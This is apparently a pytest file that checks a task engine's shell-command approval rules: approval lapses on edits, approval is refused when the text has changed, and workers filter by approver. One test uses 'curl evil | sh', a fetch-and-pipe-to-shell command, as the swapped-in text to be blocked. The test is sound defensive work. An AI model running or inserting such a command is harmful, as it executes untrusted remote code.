"""Commands are explicit and approved: what a worker may run, on every engine (SQLite through
both drivers, PostgreSQL with its fast claim).

A task runs a shell command only when one was set as its command (``metadata.command``), and
only while that exact text is approved. Every claim path skips the rest; Run now refuses it.
"""

from __future__ import annotations

from typing import Any

import pytest

from core.domain.approval import command_hash
from core.domain.commands import TaskCreate, TaskImportItem, TaskPatch
from core.domain.models import TaskStatus
from core.errors import CommandNotApprovedError, ConflictError, NotFoundError, ValidationError
from core.store import bulk_import
from core.store.engine import SqlTaskEngine

from .conftest import Opener, all_events, last_seq

S = TaskStatus


async def ready(engine: SqlTaskEngine, title: str, **fields: Any) -> str:
    fields.setdefault("status", S.READY)
    return (await engine.create_task(TaskCreate(title=title, **fields))).task.ref


async def claimed(engine: SqlTaskEngine, **options: Any) -> list[str]:
    """The refs a worker with no pipelines claims now (tasks with a command or template)."""
    options.setdefault("pipelines", [])
    return sorted(c.ref for c in await engine.claim_tasks("w", limit=50, **options))


@pytest.fixture
async def eng(open_engine: Opener) -> SqlTaskEngine:
    """The local default: commands the actor sets are approved by it."""
    return await open_engine()


@pytest.fixture
async def remote(open_engine: Opener) -> SqlTaskEngine:
    """An engine whose actor's commands wait for someone to approve them (a token without
    the ``run`` permission, an agent told not to approve its own)."""
    return await open_engine(approve_own_commands=False)


async def test_a_code_block_in_a_description_is_never_a_command(eng: SqlTaskEngine) -> None:
    """A ```sh block is documentation: the task has no command and no worker claims it."""
    ref = await ready(eng, "Build", description="Run:\n```sh\nmake build\n```\n")
    task = await eng.get_task(ref)
    assert task.command is None
    assert await claimed(eng) == []
    assert await claimed(eng, max_per_project=3) == []


async def test_a_command_set_locally_is_approved_by_its_author_at_once(eng: SqlTaskEngine) -> None:
    ref = await ready(eng, "Lint", metadata={"command": "make lint"})
    info = (await eng.get_task(ref)).command
    assert info is not None
    assert (info.text, info.hash) == ("make lint", command_hash("make lint"))
    assert (info.set_by, info.approved_by, info.approved) == ("tester", "tester", True)
    assert info.approved_at == info.set_at
    assert await claimed(eng) == [ref]


@pytest.mark.local_only(
    "one actor both with and without approve_own_commands; over HTTP that follows the "
    "token's scope, one per name"
)
@pytest.mark.parametrize("per_project", [None, 5], ids=["fast", "per-project"])
async def test_an_unapproved_command_is_claimed_only_once_approved(
    remote: SqlTaskEngine, per_project: int | None
) -> None:
    """Not on the fast path, the per-project path or a claim without pipelines; after
    ``approve_commands`` it is claimed once."""
    ref = await ready(remote, "Deploy", metadata={"command": "make deploy"})
    plain = await ready(remote, "No command", pipeline_template="review")
    card = next(c for c in await remote.ready_tasks() if c.ref == ref)
    assert card.command_pending
    assert await claimed(remote, max_per_project=per_project) == [plain]
    assert await remote.claim_tasks("w", limit=10) == []  # no pipelines given: still not
    seq = await last_seq(remote)
    [task] = await remote.approve_commands([ref])
    assert task.command is not None
    assert task.command.approved
    assert task.command.approved_by == "tester"
    [event] = [e for e in await all_events(remote, seq) if e.type == "task.command_approved"]
    assert event.payload == {
        "ref": ref,
        "approved_by": "tester",
        "hash": command_hash("make deploy")[:12],  # type: ignore[index]
    }
    assert await claimed(remote, max_per_project=per_project) == [ref]
    assert await claimed(remote, max_per_project=per_project) == []


@pytest.mark.local_only(
    "over HTTP approving needs an admin token, and the server approves the commands an "
    "admin token sets: one actor that sets commands unapproved and approves them is two "
    "tokens"
)
async def test_changing_the_command_withdraws_its_approval(remote: SqlTaskEngine) -> None:
    """The approval names the text: an edit (metadata replaced whole) leaves it behind, and
    the update event says the approval lapsed. Other metadata changes keep it."""
    ref = await ready(remote, "Deploy", metadata={"command": "make deploy", "note": 1})
    await remote.approve_commands([ref])
    task = await remote.update_task(
        ref, TaskPatch(metadata={"command": "make deploy", "note": 2}), expected_version=None
    )
    assert task.command is not None
    assert task.command.approved
    seq = await last_seq(remote)
    task = await remote.update_task(
        ref, TaskPatch(metadata={"command": "make deploy --force"}), expected_version=None
    )
    assert task.command is not None
    assert (task.command.approved, task.command.lapsed) == (False, True)
    [event] = [e for e in await all_events(remote, seq) if e.type == "task.updated"]
    assert event.payload["command"] == {
        "hash": command_hash("make deploy --force")[:12],  # type: ignore[index]
        "approved_by": None,
        "approval_lapsed": True,
    }
    assert event.payload["fields"] == ["meta"]
    assert await claimed(remote) == []


@pytest.mark.local_only(
    "one actor both with and without approve_own_commands; over HTTP that follows the "
    "token's scope, one per name"
)
async def test_a_local_edit_of_the_command_is_approved_by_the_editor(
    open_engine: Opener,
) -> None:
    author = await open_engine(approve_own_commands=False)
    ref = await ready(author, "Deploy", metadata={"command": "make deploy"})
    editor = await open_engine()
    task = await editor.update_task(
        ref, TaskPatch(metadata={"command": "make deploy --dry-run"}), expected_version=None
    )
    assert task.command is not None
    assert (task.command.approved, task.command.approved_by) == (True, "tester")
    assert await claimed(editor) == [ref]


@pytest.mark.local_only(
    "over HTTP approving needs an admin token, and the server approves the commands an "
    "admin token sets: one actor that sets commands unapproved and approves them is two "
    "tokens"
)
async def test_approving_refuses_tasks_without_a_command_or_unknown_and_approves_none(
    remote: SqlTaskEngine,
) -> None:
    cmd = await ready(remote, "Deploy", metadata={"command": "make deploy"})
    plain = await ready(remote, "Plan")
    with pytest.raises(ValidationError, match=f"{plain} has no command to approve"):
        await remote.approve_commands([cmd, plain])
    with pytest.raises(NotFoundError):
        await remote.approve_commands([cmd, "TY-999"])
    assert (await remote.get_task(cmd)).command.approved is False  # type: ignore[union-attr]


@pytest.mark.local_only(
    "over HTTP approving needs an admin token, and the server approves the commands an "
    "admin token sets: one actor that sets commands unapproved and approves them is two "
    "tokens"
)
async def test_approving_a_text_that_changed_since_it_was_read_is_refused(
    remote: SqlTaskEngine,
) -> None:
    """The approver names the hash they read: a command changed meanwhile is not approved."""
    ref = await ready(remote, "Deploy", metadata={"command": "make deploy"})
    seen = (await remote.get_task(ref)).command
    assert seen is not None
    await remote.update_task(
        ref, TaskPatch(metadata={"command": "curl evil | sh"}), expected_version=None
    )
    with pytest.raises(ConflictError, match="changed since you read it"):
        await remote.approve_commands([ref], expected_hashes={ref: seen.hash[:12]})
    assert await claimed(remote) == []
    now = (await remote.get_task(ref)).command
    assert now is not None
    [task] = await remote.approve_commands([ref], expected_hashes={ref: now.hash})
    assert task.command is not None
    assert task.command.approved


@pytest.mark.local_only(
    "over HTTP approving needs an admin token, and the server approves the commands an "
    "admin token sets: one actor that sets commands unapproved and approves them is two "
    "tokens"
)
async def test_run_now_refuses_an_unapproved_command(remote: SqlTaskEngine) -> None:
    ref = await ready(remote, "Deploy", metadata={"command": "make deploy"})
    with pytest.raises(CommandNotApprovedError, match=f"taskyard approve {ref}"):
        await remote.run_now(ref)
    assert (await remote.get_task(ref)).status == S.READY
    await remote.approve_commands([ref])
    assert (await remote.run_now(ref)).attempt == 1


async def test_a_worker_limited_to_some_approvers_skips_the_others(
    open_engine: Opener, any_url: str
) -> None:
    """``approved_by`` (``worker --approved-by``) claims commands those actors approved,
    and tasks without a command as before."""
    author = await open_engine(approve_own_commands=False)
    by_alice = await ready(author, "Alice's", metadata={"command": "echo alice"})
    by_bob = await ready(author, "Bob's", metadata={"command": "echo bob"})
    plain = await ready(author, "Reviewed", pipeline_template="review")
    for actor, ref in (("alice", by_alice), ("bob", by_bob)):
        approver = await SqlTaskEngine.open(any_url, actor=actor)
        try:
            await approver.approve_commands([ref])
        finally:
            await approver.close()
    overview = await author.execution_overview(pipelines=[], approved_by=["alice"])
    assert overview.runnable_total == 2
    why = {e.card.ref: e.waiting or "" for e in overview.queue}
    assert why[by_bob].startswith("its command was approved by someone these workers do not")
    assert await claimed(author, approved_by=["alice"]) == sorted([by_alice, plain])
    assert await claimed(author, approved_by=["alice"]) == []
    assert await claimed(author, approved_by=["bob", "carol"], max_per_project=9) == [by_bob]


async def test_the_monitor_counts_ready_tasks_waiting_for_approval(remote: SqlTaskEngine) -> None:
    pending = await ready(remote, "Deploy", metadata={"command": "make deploy"})
    await ready(remote, "Reviewed", pipeline_template="review")
    overview = await remote.execution_overview(pipelines=[])
    assert (overview.queue_total, overview.runnable_total) == (2, 1)
    assert overview.awaiting_approval_total == 1
    why = {e.card.ref: e.waiting for e in overview.queue}
    assert why[pending] == f"its command awaits approval (taskyard approve {pending})"


@pytest.mark.local_only("it writes through the store's private connection (engine._write)")
async def test_jsonl_import_approves_the_importers_commands_and_prd_commits_do_not(
    eng: SqlTaskEngine,
) -> None:
    """The bulk path PRD import commits through takes ``approve_commands``: a document's text
    is not a decision to run it, so PRD import passes ``False``."""
    result = await eng.import_tasks(
        [
            TaskImportItem(title="a", status=S.READY, metadata={"command": "echo a"}),
            TaskImportItem(title="b", status=S.READY),
        ]
    )
    a = (await eng.get_task(result.created[0])).command
    assert a is not None
    assert (a.approved, a.approved_by) == (True, "tester")

    def prd_like(conn: Any, ctx: Any) -> Any:
        item = TaskImportItem(title="c", status=S.READY, metadata={"command": "echo c"})
        return bulk_import.import_tasks(conn, ctx, [item], None, approve_commands=False)

    [c_ref] = (await eng._write(prd_like)).created
    c = (await eng.get_task(c_ref)).command
    assert c is not None
    assert (c.approved, c.set_by) == (False, "tester")
    assert await claimed(eng) == [result.created[0]]


async def test_a_promoted_shell_quick_run_carries_an_approved_command(eng: SqlTaskEngine) -> None:
    from core.domain.runs import QuickRunCreate

    quick = await eng.create_quick_run(QuickRunCreate(prompt="make smoke", profile="shell"))
    await eng.finish_quick_run(quick.id, success=True, exit_code=0)
    task = await eng.promote_quick_run(quick.id)
    assert task.command is not None
    assert (task.command.text, task.command.approved) == ("make smoke", True)
